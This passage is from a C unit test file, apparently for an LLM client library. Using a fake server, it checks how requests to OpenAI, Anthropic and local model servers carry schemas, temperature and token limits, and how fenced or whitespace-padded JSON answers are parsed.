                         BB_OK);
    assert_int_equal(bb_buf_puts(&schema, "}}"), BB_OK);
    fake fk;
    fake_start(&fk, "{\"anthropic\":[{\"content_json\":{\"p3\":\"x\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "anthropic");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask_schema(&c, bb_buf_str(&schema), NULL, &r, &e), BB_OK);
    assert_string_equal(cJSON_GetObjectItem(r.value, "p3")->valuestring, "x");
    cJSON *body = sent_body(&fk, 0);
    assert_null(cJSON_GetObjectItem(body, "output_config"));
    assert_string_equal(at(body, "tool_choice/name")->valuestring, "answer");
    assert_non_null(at(body, "tools/0/input_schema/properties/p29"));
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    bb_buf_free(&schema);
    fake_stop(&fk);
}

#define OPTIONAL_B                                                                                 \
    "{\"type\":\"object\",\"additionalProperties\":false,\"required\":[\"a\"],"                    \
    "\"properties\":{\"a\":{\"type\":\"string\"},\"b\":{\"type\":\"integer\",\"minimum\":0}}}"

static void openai_strict_mode_gets_optional_properties_as_nullable(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[{\"content_json\":{\"a\":\"x\",\"b\":null}},"
                    "{\"content_json\":{\"a\":\"x\"}}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask_schema(&c, OPTIONAL_B, NULL, &r, &e), BB_OK);
    /* null stood for "absent": the caller sees b absent */
    assert_null(cJSON_GetObjectItem(r.value, "b"));
    bb_llm_reply_free(&r);
    cJSON *body = sent_body(&fk, 0);
    const cJSON *js = at(body, "response_format/json_schema");
    assert_true(cJSON_IsTrue(cJSON_GetObjectItem(js, "strict")));
    assert_int_equal(cJSON_GetArraySize(at(js, "schema/required")), 2);
    assert_string_equal(at(js, "schema/properties/b/type/1")->valuestring, "null");
    cJSON_Delete(body);
    /* sparse: the schema as it is, for guidance */
    bb_llm_ask sparse = {.sparse = true};
    assert_int_equal(ask_schema(&c, OPTIONAL_B, &sparse, &r, &e), BB_OK);
    body = sent_body(&fk, 1);
    js = at(body, "response_format/json_schema");
    assert_true(cJSON_IsFalse(cJSON_GetObjectItem(js, "strict")));
    assert_int_equal(cJSON_GetArraySize(at(js, "schema/required")), 1);
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void reasoning_models_get_no_temperature_and_max_completion_tokens(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":[" OK_OPENAI "]}");
    bb_llm_client c;
    client_with_model(&c, &fk, "openai", "o3-mini");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    cJSON *body = sent_body(&fk, 0);
    assert_null(cJSON_GetObjectItem(body, "temperature"));
    assert_null(cJSON_GetObjectItem(body, "max_tokens"));
    assert_int_equal(cJSON_GetObjectItem(body, "max_completion_tokens")->valueint, 4096);
    cJSON_Delete(body);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void temperature_is_sent_as_configured(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"anthropic\":[" OK_OPENAI "," OK_OPENAI "," OK_OPENAI "]}");
    const char *settings[] = {NULL, "omit", "0.25"};
    for (int i = 0; i < 3; i++) {
        if (settings[i])
            setenv("BACKBONE_LLM_TEMPERATURE", settings[i], 1);
        bb_llm_client c;
        client_for(&c, &fk, "anthropic");
        bb_llm_reply r;
        bb_llm_error e;
        assert_int_equal(ask(&c, &r, &e), BB_OK);
        cJSON *body = sent_body(&fk, i);
        const cJSON *t = cJSON_GetObjectItem(body, "temperature");
        if (i == 1)
            assert_null(t);
        else
            assert_true(t && t->valuedouble == (i == 0 ? 0 : 0.25));
        cJSON_Delete(body);
        bb_llm_reply_free(&r);
        bb_llm_client_free(&c);
    }
    unsetenv("BACKBONE_LLM_TEMPERATURE");
    fake_stop(&fk);
}

/* The output cap the fake applied to request i (-1: none). */
static long applied_limit(const fake *fk, int i)
{
    cJSON *log = fake_requests(fk);
    const cJSON *l = cJSON_GetObjectItem(cJSON_GetArrayItem(log, i), "output_limit");
    long v = cJSON_IsNumber(l) ? (long)l->valuedouble : -1;
    cJSON_Delete(log);
    return v;
}

static void local_servers_get_the_cap_as_max_tokens(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"server\":\"ollama\",\"openai\":[" OK_OPENAI "," OK_OPENAI "]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    bb_llm_reply r;
    bb_llm_error e;
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(applied_limit(&fk, 0), 4096);
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    /* the newer name, forced: Ollama ignores it and applies no cap */
    setenv("BACKBONE_LLM_MAX_TOKENS_FIELD", "max_completion_tokens", 1);
    client_for(&c, &fk, "openai");
    assert_int_equal(ask(&c, &r, &e), BB_OK);
    assert_int_equal(applied_limit(&fk, 1), -1);
    unsetenv("BACKBONE_LLM_MAX_TOKENS_FIELD");
    bb_llm_reply_free(&r);
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

static void answers_with_white_space_or_in_a_fence_are_accepted(void **state)
{
    (void)state;
    fake fk;
    fake_start(&fk, "{\"openai\":["
                    "{\"content\":\"{\\\"answer\\\":\\\"a\\\"}\\n\"},"
                    "{\"content\":\"```json\\n{\\\"answer\\\":\\\"b\\\"}\\n```\\n\"},"
                    "{\"content\":\"\\n ```\\n  {\\\"answer\\\":\\\"c\\\"}\\n```\"},"
                    "{\"content\":\"\\t{\\\"answer\\\":\\\"d\\\"}\\r\\n\"}]}");
    bb_llm_client c;
    client_for(&c, &fk, "openai");
    for (int i = 0; i < 4; i++) {
        bb_llm_reply r;
        bb_llm_error e;
        assert_int_equal(ask(&c, &r, &e), BB_OK);
        char want[2] = {(char)('a' + i), '\0'};
        assert_string_equal(cJSON_GetObjectItem(r.value, "answer")->valuestring, want);
        bb_llm_reply_free(&r);
    }
    bb_llm_client_free(&c);
    fake_stop(&fk);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(openai_answer_is_parsed_checked_and_counted),
        cmocka_unit_test(anthropic_answer_uses_output_config_and_joins_text),
        cmocka_unit_test(anthropic_forced_tool_answer_is_read_from_tool_use),
        cmocka_unit_test(rate_limit_is_retried_after_retry_after),
        cmocka_unit_test(overloaded_529_is_retried_until_success),
        cmocka_unit_test(server_error_then_success_takes_two_attempts),
        cmocka_unit_test(retries_stop_after_max_attempts),
        cmocka_unit_test(slow_answer_times_out_and_is_retried),
        cmocka_unit_test(malformed_json_content_is_rejected),
        cmocka_unit_test(content_breaking_the_schema_is_rejected),
        cmocka_unit_test(truncated_openai_output_is_a_failure),
        cmocka_unit_test(truncated_anthropic_output_is_a_failure),
        cmocka_unit_test(openai_refusal_is_a_failure),
        cmocka_unit_test(content_filter_is_a_refusal),
        cmocka_unit_test(anthropic_refusal_is_a_failure),
        cmocka_unit_test(quota_exhaustion_is_never_retried),
        cmocka_unit_test(anthropic_spend_limit_is_never_retried),
        cmocka_unit_test(auth_error_is_never_retried_and_the_key_is_redacted),
        cmocka_unit_test(response_over_the_cap_is_rejected),
        cmocka_unit_test(cached_answer_is_identical_and_sends_nothing),
        cmocka_unit_test(broken_cache_entry_is_asked_again_and_replaced),
        cmocka_unit_test(retry_after_ms_header_sets_the_wait),
        cmocka_unit_test(anthropic_low_credit_is_quota_not_a_bad_request),
        cmocka_unit_test(breaker_opens_after_failures_and_recovers),
        cmocka_unit_test(spent_budget_stops_requests),
        cmocka_unit_test(answers_without_usage_are_charged_an_estimate),
        cmocka_unit_test(a_budgeted_rerun_asks_the_same_and_hits_the_cache),
        cmocka_unit_test(the_deadline_bounds_the_whole_operation),
        cmocka_unit_test(the_deadline_cuts_a_slow_attempt_short),
        cmocka_unit_test(model_text_is_refused_or_quoted_before_it_is_shown),
        cmocka_unit_test(connection_refused_is_a_network_error),
        cmocka_unit_test(anthropic_gets_the_schema_its_grammar_compiles),
        cmocka_unit_test(anthropic_schema_beyond_the_grammar_limits_goes_as_a_forced_tool),
        cmocka_unit_test(openai_strict_mode_gets_optional_properties_as_nullable),
        cmocka_unit_test(reasoning_models_get_no_temperature_and_max_completion_tokens),
        cmocka_unit_test(temperature_is_sent_as_configured),
        cmocka_unit_test(local_servers_get_the_cap_as_max_tokens),
        cmocka_unit_test(answers_with_white_space_or_in_a_fence_are_accepted),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
